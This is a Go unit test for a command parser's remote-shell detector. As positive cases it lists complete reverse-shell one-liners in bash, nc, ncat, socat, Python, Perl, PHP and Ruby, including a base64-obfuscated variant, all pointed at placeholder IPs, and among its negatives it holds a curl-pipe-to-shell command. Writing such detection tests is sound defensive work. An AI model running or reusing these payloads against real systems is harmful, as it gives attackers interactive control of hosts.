package command

import (
	"encoding/base64"
	"testing"
)

func TestRemoteShell(t *testing.T) {
	encoded := base64.StdEncoding.EncodeToString([]byte("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"))
	for want, lines := range map[bool][][]string{
		true: {
			{"bash", "-i", ">&", "/dev/tcp/203.0.113.7/4444"},
			{"sh", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"},
			{"sh", "-c", "exec 5<>/dev/tcp/203.0.113.7/4444; cat <&5 | while read l; do $l 2>&5 >&5; done"},
			{"sh", "-c", "echo " + encoded + " | base64 -d | bash"},
			{"sh", "-c", "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f"},
			{"nc", "203.0.113.7", "4444", "-e", "/bin/sh"},
			{"ncat", "--ssl", "203.0.113.7", "443", "--sh-exec", "bash -i"},
			{"socat", "TCP:203.0.113.7:443", "EXEC:bash -li,pty"},
			{"python3", "-c", "import socket,subprocess,os;s=socket.socket();s.connect(('203.0.113.20',8443));[os.dup2(s.fileno(),f) for f in(0,1,2)];subprocess.call(['/bin/sh','-i'])"},
			{"/bin/sh", "-c", "python3 -c \"import socket,pty;s=socket.create_connection(('203.0.113.20',8443));s=socket.socket();pty.spawn('sh')\""},
			{"perl", "-e", `use Socket;$i="203.0.113.7";socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton($i)));open(STDIN,">&S");exec("/bin/sh -i");`},
			{"php", "-r", `$s=fsockopen("203.0.113.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");`},
			{"ruby", "-rsocket", "-e", `f=TCPSocket.open("203.0.113.7",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d",f,f)`},
		},
		false: {
			{"sh", "-c", "echo PING > /dev/tcp/127.0.0.1/6379"},
			{"nc", "-z", "10.0.0.1", "80"},
			{"nc", "-vz", "-w", "2", "db.example", "5432"},
			{"python3", "-c", "import socket; socket.create_connection(('127.0.0.1', 8080), 2)"},
			{"socat", "-", "UNIX-CONNECT:/run/x.sock"},
			{"sh", "-c", "curl -fsS http://a.example/x | sh"},
			{"bash", "-c", "exec 2>&1; server"},
			{"ssh", "-c", "aes", "host"},
			{"node", "-e", "require('net').createServer(s => s.end('ok')).listen(80)"},
			{"sh", "-c", "mkfifo /tmp/p; server < /tmp/p"},
		},
	} {
		for _, args := range lines {
			if got := Parse(args, "", "").RemoteShell; got != want {
				t.Errorf("%q: remote shell %t, want %t", args, got, want)
			}
		}
	}
}
